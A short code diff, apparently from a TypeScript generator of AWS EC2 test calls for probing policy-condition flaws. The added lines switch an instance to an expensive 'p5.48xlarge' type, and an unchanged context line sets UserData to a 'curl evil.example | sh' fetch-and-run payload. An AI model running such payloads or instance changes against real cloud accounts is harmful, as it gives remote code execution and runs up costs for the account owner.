@@ -254,6 +254,11 @@ const MAKE: Readonly<Record<string, Make>> = {
     const InstanceId = instanceOf(scene, scene.has, 'stopped');
     volumeOf(scene, own(scene), InstanceId);
     const flaw = flawOf(scene.condition);
+    const types = valuesOf(scene.condition, 'ec2:Attribute/InstanceType');
+    if (types.length > 0) {
+      const Value = flaw === 'ec2:Attribute/InstanceType' ? 'p5.48xlarge' : types[0];
+      return ec2('ModifyInstanceAttribute', { InstanceId, InstanceType: { Value } });
+    }
     const change =
       flaw === 'ec2:Attribute'
         ? { UserData: { Value: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') } }
